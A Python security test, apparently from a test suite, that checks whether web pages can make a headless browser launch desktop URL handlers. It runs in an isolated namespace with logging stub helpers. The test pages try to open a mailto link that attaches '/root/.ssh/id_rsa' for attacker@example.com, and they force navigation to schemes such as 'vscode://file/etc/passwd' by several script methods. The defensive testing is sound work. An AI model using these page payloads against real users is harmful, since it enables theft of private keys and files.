"""A rendered page tries to make the browser run a program on this machine, in a sealed network namespace.

Started by ``tests/attacks/test_external_handlers.py``. The user's desktop is simulated by a directory of
helper programs (``xdg-open``, ``xdg-email``, ``gio``, ``kde-open`` …) put first on ``PATH`` before
``kotoba read`` runs: each one only writes its name and arguments to a log. Pages on a public-looking
address of this namespace's loopback then ask for a URL of an external scheme — ``mailto:`` with an
``attach=`` of a private key, and every other scheme a desktop hands to a program — in every way a page
can: a meta refresh, ``location.href``, an iframe, ``window.open``, a link's ``click()``, a form, a server
redirect inside an iframe, and an iframe whose document refreshes to it. Chromium throttles external
launches per browser process, so every case is its own ``kotoba read`` (its own browser). The namespace has
no other interface: nothing leaves the machine. Prints one JSON object: the helper log and each read.
"""

from __future__ import annotations

import json
import os
import stat
import subprocess
import sys
import tempfile
from concurrent.futures import ThreadPoolExecutor
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import Any
from urllib.parse import unquote

sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))))

from tests.support import spa_pages
from tests.support.servers.http import page, respond, serve

PUBLIC = "93.184.215.14"
# What a Linux desktop may use to open a URL of a scheme the browser does not handle itself.
HELPERS = (
    "xdg-open",
    "xdg-email",
    "xdg-settings",
    "xdg-mime",
    "gio",
    "gvfs-open",
    "gnome-open",
    "kde-open",
    "kde-open5",
    "kfmclient",
    "exo-open",
    "sensible-browser",
    "x-www-browser",
    "www-browser",
)
MAILTO = "mailto:attacker@example.com?subject=logs&attach=/root/.ssh/id_rsa"
# Schemes a desktop hands to a program: Chromium's own "always allowed" ones (mailto, news, snews), the
# phone and chat ones, and application schemes, plus one nobody registered.
SCHEMES = (
    "news:comp.lang.python",
    "snews://news.example/x",
    "nntp://news.example/x",
    "tel:+15550100",
    "sms:+15550100",
    "callto:someone",
    "irc://irc.example/kotoba",
    "ssh://attacker@example.com",
    "magnet:?xt=urn:btih:0000000000000000000000000000000000000000",
    "webcal://example.com/c.ics",
    "zoommtg://example.com/join?confno=1",
    "steam://run/1",
    "ms-settings:privacy",
    "vscode://file/etc/passwd",
    "kotoba-unregistered:x",
)
# Each way a page can ask for a URL, as one line of script run once the article is on the page.
METHODS = {
    "location": "location.href = TARGET;",
    "iframe": "const f = document.createElement('iframe'); f.src = TARGET; document.body.appendChild(f);",
    "window_open": "window.open(TARGET);",
    "link_click": "const a = document.createElement('a'); a.href = TARGET; document.body.appendChild(a); a.click();",
    "form": "const m = document.createElement('form'); m.method = 'GET'; m.action = TARGET; document.body.appendChild(m); m.submit();",
    "redirect_in_iframe": "const f = document.createElement('iframe'); f.src = '/302?' + encodeURIComponent(TARGET); document.body.appendChild(f);",
    "refresh_in_iframe": "const f = document.createElement('iframe'); f.src = '/refresh?' + encodeURIComponent(TARGET); document.body.appendChild(f);",
}


def sh(*args: str) -> None:
    subprocess.run(args, check=True, capture_output=True)


def make_desktop(log: Path) -> Path:
    """A directory of recording helpers, standing in for the programs of a user's desktop."""
    folder = Path(tempfile.mkdtemp(prefix="desktop-"))
    for name in HELPERS:
        helper = folder / name
        helper.write_text(f'#!/bin/sh\necho "{name} $*" >> {log}\n')
        helper.chmod(helper.stat().st_mode | stat.S_IXUSR | stat.S_IXGRP | stat.S_IXOTH)
    return folder


def ran(case: str) -> str:
    """Script that tells the site the page's script ran (so a slow read still shows the attempt was made)."""
    return f"fetch({json.dumps('/ran/' + case)}, {{keepalive: true}});"


def attack(case: str, method: str, target: str) -> str:
    script = METHODS[method].replace("TARGET", json.dumps(target))
    # After the article has been written, so the read has something to return whatever the browser does.
    return spa_pages.shell(extra_script=f"{ran(case)} setTimeout(() => {{ {script} }}, 200);")


def meta_refresh(case: str, target: str) -> str:
    """The page of the review: a shell whose head refreshes to ``target`` at once."""
    head = f"<meta http-equiv='refresh' content='0;url={target}'>"
    return spa_pages.shell(head=head, extra_script=ran(case))


def redirect_to_query(h: BaseHTTPRequestHandler) -> None:
    h.send_response(302)
    h.send_header("Location", unquote(h.path.split("?", 1)[1]))
    h.send_header("Content-Length", "0")
    h.end_headers()


def refresh_to_query(h: BaseHTTPRequestHandler) -> None:
    target = unquote(h.path.split("?", 1)[1]).replace("'", "%27")
    respond(
        h, f"<html><head><meta http-equiv='refresh' content='0;url={target}'></head><body>…</body></html>"
    )


def read(url: str, path: str) -> dict[str, Any]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("KOTOBA_") and "proxy" not in k.lower()}
    env.update(PATH=path, KOTOBA_READER_URL="", KOTOBA_DEADLINE="20")
    done = subprocess.run(
        [sys.executable, "-m", "kotoba", "read", "--json", url],
        capture_output=True,
        text=True,
        env=env,
        timeout=90,
    )
    lines = [json.loads(line) for line in done.stdout.splitlines() if line.startswith("{")]
    return {"exit": done.returncode, "stderr": done.stderr[-2000:], "outcome": lines[0] if lines else None}


def main() -> None:
    sh("ip", "link", "set", "lo", "up")
    sh("ip", "addr", "add", f"{PUBLIC}/32", "dev", "lo")
    log = Path(tempfile.mkdtemp(prefix="launched-")) / "helpers.log"
    desktop = make_desktop(log)
    path = f"{desktop}:{os.environ.get('PATH', '/usr/bin:/bin')}"
    routes = {
        "/api/article.json": page(spa_pages.article_json(), content_type="application/json"),
        "/302*": redirect_to_query,
        "/refresh*": refresh_to_query,
        "/meta-refresh": page(meta_refresh("mailto/meta_refresh", MAILTO)),
        "/ran/*": page("ok", content_type="text/plain"),
    }
    cases: dict[str, str] = {"mailto/meta_refresh": "/meta-refresh"}
    for method in METHODS:
        routes[f"/mailto/{method}"] = page(attack(f"mailto/{method}", method, MAILTO))
        cases[f"mailto/{method}"] = f"/mailto/{method}"
    for n, target in enumerate(SCHEMES):
        case = f"{target.split(':')[0]}/location"
        routes[f"/scheme/{n}"] = page(attack(case, "location", target))
        cases[case] = f"/scheme/{n}"
    report: dict[str, Any] = {"cases": {}}
    with serve(routes, host=PUBLIC, port=80) as site:
        with ThreadPoolExecutor(max_workers=2) as pool:
            futures = {name: pool.submit(read, f"http://{PUBLIC}{p}", path) for name, p in cases.items()}
            report["cases"] = {name: future.result() for name, future in futures.items()}
        report["ran"] = sorted({r.path.removeprefix("/ran/") for r in site.requests if r.path.startswith("/ran/")})
    report["launched"] = log.read_text().splitlines() if log.exists() else []
    print(json.dumps(report))


if __name__ == "__main__":
    main()
